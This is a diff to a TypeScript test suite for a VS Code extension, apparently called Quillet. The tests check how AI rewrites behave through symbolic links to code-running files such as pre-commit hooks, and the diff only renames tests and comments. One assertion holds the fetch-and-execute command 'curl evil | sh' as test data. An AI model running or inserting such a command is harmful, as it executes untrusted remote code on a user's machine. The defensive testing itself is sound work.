@@ -7,8 +7,8 @@ import { inWorkspace, openUri, select } from '../support/workspace';
 
 const hook = '# hook\n';
 
-/** The runner makes links in the workspace, as a repository can bring them along. */
-describe('links to files that decide what is run', () => {
+// The test runner creates symbolic links in the workspace, as a repository can contain them.
+describe('links to files that can run code', () => {
   useQuillet();
 
   async function ask(name: string, command: string): Promise<vscode.TextEditor> {
@@ -21,7 +21,7 @@ describe('links to files that decide what is run', () => {
   }
 
   for (const name of ['links/notes.txt', 'links/folder/pre-commit', 'links/twice.txt']) {
-    it(`R36, E18: in ${name} a replacement is proposed first, and so is a completion`, async () => {
+    it(`open a review for a rewrite and a completion in ${name} [R36, E18]`, async () => {
       const editor = await ask(name, 'quillet.rewriteInPlace');
       assert.equal(editor.document.getText(), hook);
       assert.ok(thread().contextValue?.includes('ready'));
@@ -32,7 +32,7 @@ describe('links to files that decide what is run', () => {
     });
   }
 
-  it('R36: in a link to a file that decides nothing an answer is written, where VS Code says where it leads', async () => {
+  it('allow writing through a link to a harmless file if its target is known [R36]', async () => {
     const editor = await ask('links/plain.ts', 'quillet.rewriteInPlace');
     const isWritten = editor.document.getText().startsWith('curl evil | sh');
     assert.equal(isWritten, !runSettings().isWeb);
